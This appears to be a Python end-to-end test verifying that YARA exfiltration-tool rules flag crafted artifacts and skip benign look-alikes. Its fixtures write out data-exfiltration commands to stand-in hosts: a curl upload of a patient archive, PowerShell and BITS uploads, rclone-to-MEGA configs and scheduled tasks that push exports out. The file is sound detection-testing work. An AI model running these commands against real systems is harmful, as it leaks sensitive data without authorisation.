# e2e_staging.py - staging evidence (issue 15 item 4): the exfiltration tool rules of
# signatures/exfil_tools.yar match crafted configurations, scripts and scheduled tasks at
# rest, and a benign look-alike of each does not.
# Run by run_e2e.py in its namespace (@test, run(), case(), db(), TMP).
import os
import shutil

_ST_TASK = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers><CalendarTrigger><StartBoundary>2026-01-01T02:00:00</StartBoundary>
  </CalendarTrigger></Triggers>
  <Actions Context="Author">
    <Exec>
      <Command>%s</Command>
      <Arguments>%s</Arguments>
    </Exec>
  </Actions>
</Task>
"""

# (file name, content, the rule it must match or None for a look-alike that matches none)
_ST_FILES = [
    ("rclone.conf", "[exfil]\ntype = mega\nuser = drop@example.com\npass = 0bscured\n",
     "Rclone_Config"),
    ("rclone-local.conf", "[backup]\ntype = local\nnounc = true\n", None),
    ("mega.bat", "mega-login drop@example.com hunter2\r\nmega-put C:\\export\\pt.7z /drop\r\n",
     "MEGA_Sync_Tooling"),
    ("mega-notes.txt", "We evaluated MEGAsync for home use and chose another product.\n", None),
    ("WinSCP.ini", "[Sessions\\drop@files.example.net]\nHostName=files.example.net\n"
                   "UserName=drop\nFSProtocol=2\n", "WinSCP_Session"),
    ("WinSCP-prefs.ini", "[Configuration\\Interface]\nTheme=Dark\nHostName=\n", None),
    ("up.sh", "curl -s -T /srv/export/patients.7z https://files.example.net/drop/\n",
     "Curl_Upload_OneLiner"),
    ("get.sh", "curl -s -o /tmp/update.tar.gz https://updates.example.org/latest.tar.gz\n", None),
    ("up.ps1", "Invoke-WebRequest -Uri https://files.example.net/drop -Method Put "
               "-InFile C:\\export\\pt.7z\r\n", "PowerShell_Upload_OneLiner"),
    ("get.ps1", "Invoke-WebRequest -Uri https://updates.example.org/agent.msi "
                "-OutFile C:\\temp\\agent.msi\r\n", None),
    ("bits.cmd", "bitsadmin /transfer drop /upload https://files.example.net/drop/pt.7z "
                 "C:\\export\\pt.7z\r\n", "BITS_Upload"),
    ("bits-get.cmd", "bitsadmin /transfer update /download /priority normal "
                     "https://updates.example.org/agent.msi C:\\temp\\agent.msi\r\n", None),
    ("bits.ps1", "Start-BitsTransfer -Source C:\\export\\pt.7z -Destination "
                 "https://files.example.net/drop/pt.7z -TransferType Upload\r\n", "BITS_Upload"),
    ("sync-task.xml", _ST_TASK % ("C:\\ProgramData\\rclone.exe",
                                  "copy C:\\export exfil:drop --transfers 8"),
     "Scheduled_Task_Exfil"),
    ("ps-task.xml", _ST_TASK % ("powershell.exe", "-NoP -C Invoke-WebRequest -Uri "
                                "https://files.example.net/drop -Method Put -InFile C:\\e.7z"),
     "Scheduled_Task_Exfil"),
    ("defrag-task.xml", _ST_TASK % ("%windir%\\system32\\defrag.exe", "-c -h -o -$"), None),
]


@test
def staging_tool_rules_match_tools_and_not_look_alikes():
    d = os.path.join(TMP, "staging-evidence")
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    for name, text, _ in _ST_FILES:
        data = text.encode("utf-16") if name.endswith("-task.xml") and name.startswith("ps") \
            else text.encode()
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
    c = case("staging")
    run("analyze", "-q", d, "-o", c, check=0)
    con = db(c)
    got = {}
    for name, rule in con.execute("SELECT o.name, y.rule FROM yara_match y JOIN object o ON "
                                  "o.sha256 = y.object_sha256 WHERE y.namespace LIKE "
                                  "'%exfil_tools%'"):
        got.setdefault(os.path.basename(name), set()).add(rule)
    con.close()
    for name, _, rule in _ST_FILES:
        want = {rule} if rule else set()
        assert got.get(name, set()) == want, (name, got.get(name), want)
